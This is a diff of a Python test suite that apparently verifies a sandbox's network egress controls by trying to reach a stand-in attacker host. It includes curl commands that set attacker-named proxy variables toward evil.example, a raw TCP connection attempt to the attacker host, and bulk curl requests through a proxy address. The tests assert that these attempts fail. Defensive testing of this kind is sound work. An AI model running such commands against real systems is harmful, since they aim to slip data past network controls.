@@ -28,8 +28,8 @@ def _(w):
 @attack("proxy-variables-to-elsewhere", "proxy variables that name a proxy of the attacker's", "the connection to that proxy is turned to the gateway like any other")
 def _(w):
     mark = w.mark()
-    command = f"https_proxy=http://{w.net.evil}:8080 http_proxy=http://{w.net.evil}:8080 curl -sS -m 5 -o /dev/null -w '%{{http_code}}' {{}}://evil.example/{mark}"
-    results = [w.fenced.run(command.format(scheme)) for scheme in ("http", "https")]
+    command = f"https_proxy=http://{w.net.evil}:8080 http_proxy=http://{w.net.evil}:8080 curl -sS -m 5 -o /dev/null -w '%{{http_code}}' SCHEME://evil.example/{mark}"
+    results = [w.fenced.run(command.replace("SCHEME", scheme)) for scheme in ("http", "https")]
     assert all(result["stdout"].strip()[-3:] != "200" for result in results), results
     w.nothing_arrived(mark)
     return f"curl saw {[result['stdout'].strip() for result in results]}"
@@ -76,7 +76,7 @@ def _(w):
 def greeting(host):
     with tcp(host, 2525) as stream:
         return {'got': stream.recv(100)}
-say([attempt(greeting, host) for host in ('raw.test.example', 'api.test.example', evil)])
+say([attempt(greeting, host) for host in ('raw.test.example', 'other.test.example', evil)])
 """
     allowed, *others = python(w.listed, code, evil=w.net.evil)
     assert "speaks first" in allowed.get("got", ""), allowed
@@ -217,10 +217,10 @@ def _(w):
         code = """
 import subprocess
 def one(name, *more):
-    done = subprocess.run(['curl', '-gsS', '-m', '3', '-o', '/tmp/out', '-w', '%{http_code}', *more, f'http://{name}/{mark}'], capture_output=True, text=True)
+    done = subprocess.run(['curl', '-gsS', '-m', '2', '-o', '/dev/null', '-w', '%{http_code}', *more, f'http://{name}/{mark}'], capture_output=True, text=True)
     return done.stdout + ' ' + done.stderr.strip()[:80]
 import concurrent.futures as f
-with f.ThreadPoolExecutor(12) as pool:
+with f.ThreadPoolExecutor(24) as pool:
     direct = list(pool.map(lambda name: one(name, '--noproxy', '*'), names))
     proxied = list(pool.map(lambda name: one(name, '-x', 'http://169.254.169.253:3128'), names))
 say([direct, proxied])
